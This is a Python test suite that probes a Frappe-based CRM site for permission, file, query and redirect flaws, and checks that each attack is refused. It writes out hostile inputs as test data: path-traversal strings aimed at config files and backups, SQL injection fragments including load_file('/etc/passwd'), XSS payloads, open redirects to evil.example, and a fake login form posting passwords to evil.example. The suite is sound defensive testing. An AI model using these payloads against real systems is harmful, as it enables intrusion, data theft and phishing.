"""Attacks on the running site over HTTP, each by a user who may log in and little else; each succeeds without its patch."""

import gzip
import io
import json
import os
import secrets
import socket
import unittest
import zipfile
from pathlib import Path
from urllib.parse import urlparse

from embedded.tests.people import URL, Person, Stage, needs_server

SITE = Path(os.environ.get("CRM4S_TEST_SITE_PATH", "."))


def setUpModule():
	if not URL:
		return
	global stage, administrator, staff, colleague, portal, guest
	stage = Stage()
	administrator, guest = stage.administrator, Person()
	role = stage.desk_role()
	staff, colleague, portal = stage.user(role), stage.user(role), stage.user()


def tearDownModule():
	if URL:
		stage.clear()


@needs_server
class Attack(unittest.TestCase):
	def refused(self, answer, *statuses: int):
		self.assertIn(answer.status_code, statuses or (403,), answer.text[:600])

	def allowed(self, answer):
		self.assertEqual(answer.status_code, 200, answer.text[:600])
		return answer.json().get("message", answer.json().get("data"))

	def note(self, owner: Person | None = None, **values) -> str:
		"""A private note: only its owner may see it."""
		return stage.make("Note", owner, title=f"Secret {secrets.token_hex(4)}", content="secret", **values)["name"]

	def task(self, owner: Person | None = None, **values) -> str:
		"""A task is seen by whom it is for, by its giver and by roles that own tasks."""
		if owner:
			values = {"allocated_to": owner.name} | values
		return stage.make("ToDo", owner, description=f"Secret {secrets.token_hex(4)}", **values)["name"]


class Paths(Attack):
	def raw(self, path: str) -> bytes:
		where = urlparse(URL)
		with socket.create_connection((where.hostname, where.port), timeout=30) as connection:
			connection.sendall(f"GET {path} HTTP/1.1\r\nHost: {where.netloc}\r\nConnection: close\r\n\r\n".encode())
			received = b""
			while chunk := connection.recv(65536):
				received += chunk
		return received

	def test_no_file_of_the_machine_comes_out(self):
		backup = SITE.resolve() / "private" / "backups" / f"attack-{secrets.token_hex(4)}.sql.gz"
		backup.parent.mkdir(parents=True, exist_ok=True)
		backup.write_bytes(gzip.compress(b"all passwords"))
		self.addCleanup(backup.unlink)
		for start in ("/" + "../" * 24, "/" + "%2e%2e/" * 24, "/" + "..%2f" * 24, "/files/" + "../" * 24):
			with self.subTest(start):
				received = self.raw(start + str(backup).lstrip("/"))
				self.assertNotIn(backup.read_bytes(), received)
				self.assertNotIn(b" 200 ", received.split(b"\r\n", 1)[0])

	def test_the_site_config_stays_inside(self):
		for path in ("/files/../../site_config.json", "/files/%2e%2e/%2e%2e/site_config.json", "/../../site_config.json"):
			with self.subTest(path):
				self.assertNotIn(b"db_password", self.raw(path))

	def test_private_files_have_no_way_up(self):
		for path in ("/private/files/../../site_config.json", "/backups/../../site_config.json"):
			with self.subTest(path):
				self.assertNotIn(b"db_password", self.raw(path))
				prepared = administrator.session.prepare_request(requests_get(f"{URL}/"))
				prepared.url = URL + path
				self.assertNotIn(b"db_password", administrator.session.send(prepared, timeout=30).content)


def requests_get(url: str):
	import requests

	return requests.Request("GET", url)


class Files(Attack):
	def upload(self, person: Person, **arguments):
		content = io.BytesIO(secrets.token_bytes(24))
		answer = person.post("upload_file", upload=("attack.txt", content), **arguments)
		if answer.status_code == 200:
			made = answer.json()["message"]
			stage.made.append(("File", made["name"]))
		return answer

	def private_file(self, **arguments) -> dict:
		return self.upload(administrator, is_private=1, **arguments).json()["message"]

	def test_nobody_attaches_to_a_record_he_may_not_write(self):
		task = self.task()
		self.refused(self.upload(staff, doctype="ToDo", docname=task))
		self.refused(staff.create("File", file_name="a.txt", content="x", attached_to_doctype="ToDo", attached_to_name=task))
		arguments = {"from_form": 1, "doctype": "ToDo", "docname": task, "filename": "a.txt", "filedata": "eA=="}
		self.refused(staff.post("uploadfile", **arguments))
		self.refused(staff.post("frappe.client.attach_file", filename="a.txt", filedata="x", doctype="ToDo", docname=task))
		own = self.upload(staff).json()["message"]["name"]
		self.refused(staff.change("File", own, attached_to_doctype="ToDo", attached_to_name=task))
		names = json.dumps([own])
		self.refused(staff.post("frappe.utils.file_manager.add_attachments", doctype="ToDo", name=task, attachments=names))
		self.assertEqual(self.attached(administrator, task), [])

	def attached(self, person: Person, name: str) -> list:
		answer = person.read("File", filters=json.dumps([["attached_to_name", "=", name]]))
		return self.allowed(answer)

	def test_everybody_attaches_to_his_own(self):
		task = self.task(staff)
		self.allowed(self.upload(staff, doctype="ToDo", docname=task, is_private=1))
		self.assertEqual(len(self.attached(staff, task)), 1)

	def test_the_address_of_a_private_file_is_no_key_to_it(self):
		address = self.private_file()["file_url"]
		self.refused(staff.create("File", file_url=address))
		self.refused(staff.create("File", file_url=address, file_name="mine.txt", is_private=1))
		own = self.upload(staff, is_private=1).json()["message"]["name"]
		self.refused(staff.change("File", own, file_url=address))
		self.refused(staff.change("User", staff.name, user_image=address))
		self.refused(staff.session.get(URL + address, timeout=30))

	def test_the_address_of_a_file_leads_to_the_sites_files_only(self):
		for address in (
			"/files/../../site_config.json",
			"/private/files/../../site_config.json",
			"/files/%2e%2e/%2e%2e/site_config.json",
		):
			with self.subTest(address):
				answer = staff.create("File", file_url=address, file_name="mine.txt")
				self.assertNotEqual(answer.status_code, 200, answer.text[:300])
				answer = staff.change("User", staff.name, user_image=address)
				if answer.status_code == 200:
					files = self.allowed(administrator.read("File", filters=json.dumps([["owner", "=", staff.name]])))
					for file in files:
						content = administrator.get("download_file", file_url=self.allowed(administrator.read("File", file["name"]))["file_url"])
						self.assertNotIn(b"db_password", content.content)

	def test_attachments_of_closed_records_are_not_listed(self):
		task = self.task()
		self.private_file(doctype="ToDo", docname=task)
		self.assertEqual(self.attached(staff, task), [])
		self.assertEqual(len(self.attached(administrator, task)), 1)

	def test_portal_users_list_their_own_files_only(self):
		public = self.upload(administrator).json()["message"]["name"]
		listed = self.allowed(portal.read("File", filters=json.dumps([["name", "=", public]])))
		self.assertEqual(listed, [])

	def test_public_files_are_not_everybodys_to_change(self):
		public = self.upload(administrator).json()["message"]["name"]
		self.refused(staff.delete("File", public))
		self.refused(portal.change("File", public, file_name="other.txt"))
		self.allowed(staff.read("File", public))

	def test_taking_a_file_over_while_saving_it(self):
		private = self.private_file()["name"]
		own = {"attached_to_doctype": "User", "attached_to_name": staff.name}
		self.refused(staff.change("File", private, **own))
		self.refused(staff.change("File", private, owner=staff.name))
		self.refused(staff.change("File", private, is_private=0))

	def test_archives_hold_no_closed_files(self):
		private = self.private_file()["name"]
		answer = staff.post("frappe.core.api.file.zip_files", files=json.dumps([private]))
		if answer.status_code == 200:
			self.assertEqual(zipfile.ZipFile(io.BytesIO(answer.content)).namelist(), [])

	def test_nobody_unpacks_the_archive_of_another(self):
		packed = io.BytesIO()
		with zipfile.ZipFile(packed, "w") as archive:
			archive.writestr("inner.txt", "secret")
		answer = administrator.post("upload_file", upload=("a.zip", packed.getvalue()), is_private=1)
		name = answer.json()["message"]["name"]
		stage.made.append(("File", name))
		self.refused(staff.post("frappe.core.api.file.unzip_file", name=name))


class Queries(Attack):
	"""Each of these ran the part in the middle as SQL."""

	def harmless(self, answer):
		self.assertNotEqual(answer.status_code, 200, answer.text[:300])
		self.assertNotIn("ProgrammingError", answer.text)
		self.assertNotIn("OperationalError", answer.text)

	def test_fields(self):
		self.task(staff)
		for field in (
			"name\n,(select 1) as x",
			"sum((select 1))",
			"sum(sleep(0))",
			"name as `x`, sleep(0) as `y`",
			"name#\n,sleep(0)",
			"max(benchmark(1,1))",
			"ifnull((select\t1),2)",
			"max(load_file('/etc/passwd'))",
			"max(@@version)",
		):
			with self.subTest(field):
				self.harmless(staff.read("ToDo", fields=json.dumps([field])))
				self.harmless(staff.post("frappe.desk.reportview.get", doctype="ToDo", fields=json.dumps([field])))

	def test_columns_added_to_a_report(self):
		self.task(staff)
		for field in ("sleep(0)", "sum(sleep(0))", "sum((select 1))", "name as `x`, sleep(0) as `y`", "name#\n,sleep(0)"):
			with self.subTest(field):
				self.harmless(staff.get("frappe.desk.query_report.get_data_for_custom_field", doctype="ToDo", field=field))

	def test_sorting_and_grouping(self):
		self.task(staff)
		for fragment in ("(select 1)", "name, sleep (0)", "if(sleep(0),name,name)", "name, extractvalue(1,1)"):
			with self.subTest(fragment):
				self.harmless(staff.read("ToDo", order_by=fragment))
				self.harmless(staff.post("frappe.desk.reportview.get", doctype="ToDo", fields='["name"]', group_by=fragment))

	def test_filters(self):
		for column in (
			"name`\n or 1=1 or `name",
			"name` or 1=1 or `name",
			"ifnull(name,'')||1||name",
			"ifnull((select/**/1),'')",
			"ifnull(sleep(0),'')",
		):
			with self.subTest(column):
				filters = json.dumps([["ToDo", column, "=", "x"]])
				self.harmless(staff.post("frappe.desk.search.search_widget", doctype="ToDo", txt="", filters=filters))
				self.harmless(
					staff.post("frappe.desk.listview.get_group_by_count", doctype="ToDo", current_filters=filters, field="status")
				)

	def test_a_condition_is_no_filter(self):
		for filters in (["1=1 or sleep(0)"], [["ToDo", "name", "!=", "x"], "1=1"]):
			with self.subTest(filters):
				self.harmless(staff.read("ToDo", filters=json.dumps(filters)))
				arguments = {"doctype": "ToDo", "current_filters": json.dumps(filters), "field": "status"}
				self.harmless(staff.post("frappe.desk.listview.get_group_by_count", **arguments))

	def test_number_cards(self):
		card = {"type": "Document Type", "document_type": "ToDo", "function": "Sum", "aggregate_function_based_on": "sleep(0)"}
		self.harmless(staff.post("frappe.desk.doctype.number_card.number_card.get_result", doc=card, filters="[]"))

	def test_what_people_use_works(self):
		self.task(staff)
		for arguments in (
			{"fields": '["count(name) as n"]'},
			{"fields": '["sum(idx) as n", "avg(`tabToDo`.`idx`)"]'},
			{"fields": '["*"]', "order_by": "`tabToDo`.`modified` desc, name asc"},
			{"filters": '{"description": ["like", "%Secret%"]}'},
			{"filters": '[["ToDo", "status", "in", ["Open", "Closed"]], ["creation", ">", "2020-01-01"]]'},
		):
			with self.subTest(arguments):
				self.allowed(staff.read("ToDo", **arguments))


class StoredPermission(Attack):
	def test_naming_oneself_opens_nothing(self):
		task = self.task()
		self.refused(staff.change("ToDo", task, owner=staff.name))
		self.refused(staff.change("ToDo", task, allocated_to=staff.name))
		self.refused(staff.post("frappe.client.set_value", doctype="ToDo", name=task, fieldname={"allocated_to": staff.name}))
		document = self.allowed(administrator.read("ToDo", task)) | {"assigned_by": staff.name, "allocated_to": staff.name}
		self.refused(staff.post("frappe.client.save", doc=document))

	def test_the_owner_saves_as_before(self):
		task = self.task(staff)
		self.allowed(staff.change("ToDo", task, description="mine", priority="High"))


class Assignments(Attack):
	def test_closed_records_are_not_assigned(self):
		note = self.note()
		arguments = {"doctype": "Note", "name": note, "assign_to": json.dumps(["Administrator"])}
		self.refused(staff.post("frappe.desk.form.assign_to.add", **arguments))
		self.refused(staff.post("frappe.desk.form.assign_to.add", **arguments, ignore_permissions=1))

	def test_assignments_of_closed_records_stay(self):
		note = self.note()
		arguments = {"doctype": "Note", "name": note}
		self.allowed(
			administrator.post("frappe.desk.form.assign_to.add", **arguments, assign_to=json.dumps(["Administrator"]))
		)
		tasks = self.allowed(administrator.read("ToDo", filters=json.dumps([["reference_name", "=", note]])))
		stage.made.append(("ToDo", tasks[0]["name"]))
		self.refused(staff.post("frappe.desk.form.assign_to.remove", **arguments, assign_to="Administrator"))


class Tags(Attack):
	def test_closed_records_are_not_tagged(self):
		note = self.note()
		self.refused(staff.post("frappe.desk.doctype.tag.tag.add_tag", tag="attack", dt="Note", dn=note))

	def test_tagged_records_are_listed_by_permission(self):
		note, tag = self.note(), f"attack{secrets.token_hex(3)}"
		self.allowed(administrator.post("frappe.desk.doctype.tag.tag.add_tag", tag=tag, dt="Note", dn=note))
		self.addCleanup(administrator.delete, "Tag", tag)
		self.addCleanup(administrator.post, "frappe.desk.doctype.tag.tag.remove_tag", tag=tag, dt="Note", dn=note)
		tagged = self.allowed(staff.get("frappe.desk.doctype.tag.tag.get_tagged_docs", doctype="Note", tag=f"%{tag}%"))
		self.assertEqual(tagged, [])


class Sharing(Attack):
	def test_nobody_gives_away_what_he_has_not(self):
		note = self.note()
		share = {"doctype": "Note", "name": note, "read": 1}
		self.allowed(administrator.post("frappe.share.add", **share, user=staff.name, share=1))
		self.refused(staff.post("frappe.share.add", **share, user=colleague.name, write=1))
		arguments = {"doctype": "Note", "name": note, "user": staff.name, "permission_to": "write"}
		self.refused(staff.post("frappe.share.set_permission", **arguments))
		self.allowed(staff.post("frappe.share.add", **share, user=colleague.name))


class Client(Attack):
	def test_closed_tables_are_not_counted(self):
		for doctype in ("Access Log", "__Auth", "DefaultValue"):
			with self.subTest(doctype):
				self.assertNotEqual(staff.get("frappe.client.get_count", doctype=doctype).status_code, 200)
		self.task()
		before = self.allowed(staff.get("frappe.client.get_count", doctype="ToDo"))
		self.task(staff)
		self.assertEqual(self.allowed(staff.get("frappe.client.get_count", doctype="ToDo")), before + 1)

	def test_rows_of_closed_documents_stay(self):
		user = self.allowed(administrator.read("User", colleague.name))
		row = user["roles"][0]["name"]
		self.refused(staff.post("frappe.client.delete", doctype="Has Role", name=row))
		self.assertEqual(len(self.allowed(administrator.read("User", colleague.name))["roles"]), len(user["roles"]))

	def test_a_document_is_named_not_searched(self):
		arguments = {"dt": "User", "dn": {"name": ["like", "Admin%"]}, "method": "get_formatted", "args": "{}"}
		self.refused(staff.post("run_doc_method", **arguments))


class Communications(Attack):
	def communication(self, **values) -> str:
		return stage.make(
			"Communication", subject="Secret", communication_type="Communication", sent_or_received="Received",
			status="Open", content="secret", **values,
		)["name"]

	def test_their_state_is_not_everybodys(self):
		name = self.communication()
		self.refused(staff.post("frappe.email.inbox.mark_as_closed_open", communication=name, status="Closed"))
		self.refused(portal.post("frappe.email.inbox.mark_as_trash", communication=name))
		self.refused(staff.post("frappe.email.inbox.mark_as_spam", communication=name, sender="boss@example.com"))
		self.assertEqual(self.allowed(administrator.read("Communication", name))["status"], "Open")

	def test_they_follow_their_record(self):
		reader = stage.user("Inbox User")
		task = self.task()
		name = self.communication(reference_doctype="ToDo", reference_name=task)
		self.refused(reader.read("Communication", name))


class PersonalRecords(Attack):
	def test_private_notes_stay_private(self):
		note = self.note()
		self.refused(staff.read("Note", note))
		self.refused(portal.read("Note", note))
		self.allowed(staff.read("Note", self.note(staff)))
		self.allowed(staff.read("Note", self.note(public=1)))

	def test_settings_and_notifications_of_others(self):
		self.refused(staff.read("Notification Settings", colleague.name))
		self.refused(staff.change("Notification Settings", colleague.name, enabled=0))
		arguments = {"user": colleague.name, "value": 1}
		self.refused(
			staff.post("frappe.desk.doctype.notification_settings.notification_settings.set_seen_value", **arguments)
		)
		log = stage.make("Notification Log", subject="Secret", for_user=colleague.name, type="Alert")["name"]
		self.refused(staff.read("Notification Log", log))
		self.allowed(colleague.read("Notification Log", log))


class Workspaces(Attack):
	def workspace(self, **values) -> str:
		title = f"Attack {secrets.token_hex(4)}"
		return stage.make("Workspace", title=title, label=title, content="[]", **values)["name"]

	def test_public_ones_are_not_deleted_by_calling_them_private(self):
		name = self.workspace(public=1)
		method = "frappe.desk.doctype.workspace.workspace."
		page = json.dumps({"name": name, "public": 0, "title": name})
		self.refused(portal.post(method + "delete_page", page=page))
		self.refused(staff.post(method + "update_page", name=name, title="mine", icon="", parent="", public=0))
		self.allowed(administrator.read("Workspace", name))

	def test_nobody_makes_one_for_another(self):
		page = {"title": "Attack", "label": "Attack", "content": "[]", "for_user": colleague.name, "public": 0, "icon": ""}
		method = "frappe.desk.doctype.workspace.workspace.new_page"
		self.refused(staff.post(method, new_page=json.dumps(page)))


class Reports(Attack):
	def test_added_columns_show_readable_rows_only(self):
		hidden, own = self.task(), self.task(staff)
		method = "frappe.desk.query_report.get_data_for_custom_field"
		shown = self.allowed(staff.get(method, doctype="ToDo", field="description"))
		self.assertNotIn(hidden, shown)
		self.assertIn(own, shown)


class LinkedDocuments(Attack):
	def test_links_of_closed_records_are_not_told(self):
		note = self.note()
		# Where nothing on the site names a note, Frappe has nothing to tell and does not come to ask.
		answer = staff.get("frappe.desk.form.linked_with.get", doctype="Note", docname=note)
		self.assertIn((answer.status_code, answer.json().get("message")), ((403, None), (200, {})))
		self.refused(staff.get("frappe.desk.form.linked_with.get_submitted_linked_docs", doctype="Note", name=note))


class DataImport(Attack):
	def test_imports_of_others(self):
		name = stage.make("Data Import", reference_doctype="Contact", import_type="Insert New Records")["name"]
		method = "frappe.core.doctype.data_import.data_import."
		self.refused(staff.get(method + "get_import_status", data_import_name=name))
		self.refused(staff.get(method + "get_preview_from_template", data_import=name))
		self.refused(staff.post(method + "form_start_import", data_import=name))
		self.refused(staff.get(method + "download_import_log", data_import_name=name))


class Redirects(Attack):
	def test_the_login_page_leads_nowhere_else(self):
		for target in ("https://evil.example/", "//evil.example", "/\\evil.example", "\\\\evil.example", "https:evil.example", "javascript:alert(1)"):
			with self.subTest(target):
				answer = staff.session.get(
					f"{URL}/login", params={"redirect-to": target}, allow_redirects=False, timeout=60
				)
				location = answer.headers.get("Location", "")
				self.assertIn(answer.status_code, (301, 302))
				self.assertRegex(location, r"^/(?![/\\])")

	def test_pages_of_this_site_are_found(self):
		answer = staff.session.get(
			f"{URL}/login", params={"redirect-to": "/app/todo?status=Open"}, allow_redirects=False, timeout=60
		)
		self.assertEqual(answer.headers["Location"], "/app/todo?status=Open")


class PasswordReset(Attack):
	def test_a_reset_is_not_asked_for_by_a_link(self):
		self.refused(guest.get("frappe.core.doctype.user.user.reset_password", user="nobody@example.com"))

	def test_endless_passwords_are_not_hashed(self):
		answer = guest.post("login", usr="Administrator", pwd="x" * 600)
		self.refused(answer, 401)
		arguments = {"new_password": "x" * 600, "key": "none"}
		answer = guest.post("frappe.core.doctype.user.user.update_password", **arguments)
		self.assertIn("maximum allowed size", answer.text)

	def test_the_database_does_not_hold_the_key(self):
		import frappe

		from embedded.tests.inside import connected

		with connected():
			user = frappe.get_doc("User", staff.name)
			link = user.reset_password(send_email=False)
			kept = frappe.db.get_value("User", staff.name, "reset_password_key")
			self.assertNotIn(kept, link)
			self.assertEqual(len(kept), 64)


class Figures(Attack):
	def test_goals_of_closed_tables(self):
		arguments = {
			"title": "x", "doctype": "User", "docname": staff.name, "goal_value_field": "login_before",
			"goal_total_field": "login_after", "goal_history_field": "bio", "goal_doctype": "Access Log",
			"goal_doctype_link": "user", "goal_field": "idx", "date_field": "creation", "filters": "{}",
		}
		self.refused(staff.post("frappe.utils.goal.get_monthly_goal_graph_data", **arguments))
		task_goal = arguments | {"goal_doctype": "ToDo", "goal_field": "name) from tabUser -- "}
		self.assertNotEqual(staff.post("frappe.utils.goal.get_monthly_goal_graph_data", **task_goal).status_code, 200)

	def test_counts_by_field(self):
		method = "frappe.desk.listview.get_group_by_count"
		self.refused(staff.get(method, doctype="Access Log", current_filters="[]", field="assigned_to"))
		answer = staff.get(method, doctype="ToDo", current_filters="[]", field="name` as x, `owner")
		self.assertNotEqual(answer.status_code, 200)
		self.assertNotIn("ProgrammingError", answer.text)

	def test_search_finds_readable_records_only(self):
		arguments = {"text": "secret", "doctype": "Access Log"}
		self.assertEqual(self.allowed(staff.get("frappe.utils.global_search.search", **arguments)), [])

	def test_profiles_take_their_four_fields(self):
		method = "frappe.desk.page.user_profile.user_profile.update_profile_info"
		self.allowed(staff.post(method, profile_info=json.dumps({"bio": "hello", "first_name": "Boss", "api_key": "x"})))
		user = self.allowed(administrator.read("User", staff.name))
		self.assertEqual((user["bio"], user["first_name"], user.get("api_key")), ("hello", "Attack", None))


class Website(Attack):
	def form(self, **values) -> str:
		route = f"attack-{secrets.token_hex(4)}"
		fields = [
			{"fieldname": "description", "fieldtype": "Text Editor", "label": "What"},
			{"fieldname": "role", "fieldtype": "Link", "options": "Role", "label": "Role"},
		]
		return stage.make(
			"Web Form", title=route, route=route, doc_type="ToDo", module="Desk", published=1, login_required=1,
			web_form_fields=fields, **values,
		)["name"]

	def test_a_form_offers_what_it_asks_for(self):
		form = self.form()
		method = "frappe.website.doctype.web_form.web_form.get_link_options"
		arguments = {"web_form_name": form, "allow_read_on_all_link_options": 1}
		self.refused(portal.get(method, doctype="User", **arguments))
		offered = portal.get(method, doctype="Role", **arguments)
		self.assertNotIn("System Manager", offered.text)

	def test_a_form_shows_documents_of_its_kind(self):
		arguments = {"doctype": "Note", "web_form_name": self.form()}
		self.refused(portal.get("frappe.website.doctype.web_form.web_form.get_form_data", **arguments))

	def test_comments_need_reading(self):
		arguments = {
			"reference_doctype": "Note", "reference_name": self.note(), "comment": "hello", "route": "",
			"comment_email": portal.name, "comment_by": "Attack",
		}
		self.refused(portal.post("frappe.templates.includes.comments.comments.add_comment", **arguments))


class Text(Attack):
	SCRIPT = "<img src=x onerror=alert(1)><script>alert(2)</script>"

	def test_text_in_quotes_is_cleaned(self):
		for content in (f'"{self.SCRIPT}"', self.SCRIPT):
			with self.subTest(content):
				note = stage.make("Note", staff, title="x", content=content)
				self.assertNotIn("onerror=", note["content"].replace("&lt;", "<").split("<img")[1].split(">")[0])
				self.assertNotIn("<script>", note["content"])

	def test_comments_hold_no_forms(self):
		note = self.note(staff)
		arguments = {
			"reference_doctype": "Note", "reference_name": note, "comment_email": staff.name, "comment_by": "Attack",
			"content": f'"{self.SCRIPT}<form action=//evil.example><input name=password><button>Log in</button></form>"',
		}
		content = self.allowed(staff.post("frappe.desk.form.utils.add_comment", **arguments))["content"]
		for tag in ("<form", "<input", "<button", "<script"):
			self.assertNotIn(tag, content)

	def test_names_hold_no_scripts(self):
		answer = staff.change("User", staff.name, last_name=f'"{self.SCRIPT}"')
		self.assertNotIn("<script>", self.allowed(answer)["full_name"])
		self.assertNotIn("onerror=alert", self.allowed(answer)["full_name"])


class Sessions(Attack):
	def test_the_desk_page_does_not_hold_the_session(self):
		person = staff.again()
		page = person.session.get(f"{URL}/app", timeout=60)
		self.assertEqual(page.status_code, 200)
		self.assertNotIn(person.session.cookies["sid"], page.text)

	def test_a_new_kind_of_user_logs_in_again(self):
		role = stage.desk_role()
		person = stage.user(role)
		self.allowed(person.get("frappe.auth.get_logged_user"))
		self.allowed(administrator.change("User", person.name, roles=[]))
		answer = person.get("frappe.auth.get_logged_user")
		self.assertNotIn(person.name, answer.text)


class SingleRecords(Attack):
	def test_renaming_asks_for_the_record(self):
		board = {"reference_doctype": "ToDo", "field_name": "status"}
		name = f"Attack {secrets.token_hex(4)}"
		stage.make("Kanban Board", kanban_board_name=name, private=1, **board)
		arguments = {"doctype": "Kanban Board", "old_name": name, "new_name": name + " mine"}
		answer = staff.post("frappe.client.rename_doc", **arguments)
		self.assertNotEqual(answer.status_code, 200)
		self.allowed(administrator.read("Kanban Board", name))

	def test_an_address_is_shown_to_its_readers(self):
		country = self.allowed(administrator.read("Country", limit_page_length=1))[0]["name"]
		name = stage.make(
			"Address", address_title=f"Attack {secrets.token_hex(4)}", address_type="Office", address_line1="Secret Road 1",
			city="Secret City", country=country,
		)["name"]
		method = "frappe.contacts.doctype.address.address.get_address_display"
		self.refused(staff.post(method, address_dict=name))


class PortalUsers(Attack):
	def test_they_see_no_staff(self):
		self.assertEqual([user["name"] for user in self.allowed(portal.read("User"))], [portal.name])
		for doctype in ("Report", "Print Format", "Email Template", "Letter Head", "User Group", "Dashboard Chart"):
			with self.subTest(doctype):
				self.refused(portal.read(doctype))
		answer = portal.post("frappe.desk.search.search_link", doctype="User", txt="")
		self.assertNotIn(staff.name, answer.text)

	def test_they_make_no_desk_records(self):
		self.refused(portal.create("Event", subject="x", starts_on="2030-01-01 10:00:00", event_type="Public"))
		self.refused(portal.create("Note", title="x"))
		self.refused(portal.create("List Filter", filter_name="x", reference_doctype="ToDo", filters="[]"))

	def test_staff_does(self):
		self.allowed(staff.read("Dashboard Chart"))
		self.note(staff)


class Links(Attack):
	def test_a_link_changes_nothing(self):
		for method, arguments in (
			("frappe.desk.reportview.delete_items", {"doctype": "ToDo", "items": "[]"}),
			("frappe.desk.form.save.savedocs", {"doc": "{}", "action": "Save"}),
			("frappe.desk.doctype.bulk_update.bulk_update.submit_cancel_or_update_docs", {"doctype": "ToDo", "docnames": "[]"}),
			("frappe.desk.form.assign_to.add", {"doctype": "ToDo", "name": "x", "assign_to": "[]"}),
			("frappe.share.add", {"doctype": "ToDo", "name": "x"}),
			("frappe.model.workflow.apply_workflow", {"doc": "{}", "action": "x"}),
		):
			with self.subTest(method):
				self.refused(administrator.get(method, **arguments))


if __name__ == "__main__":
	unittest.main()
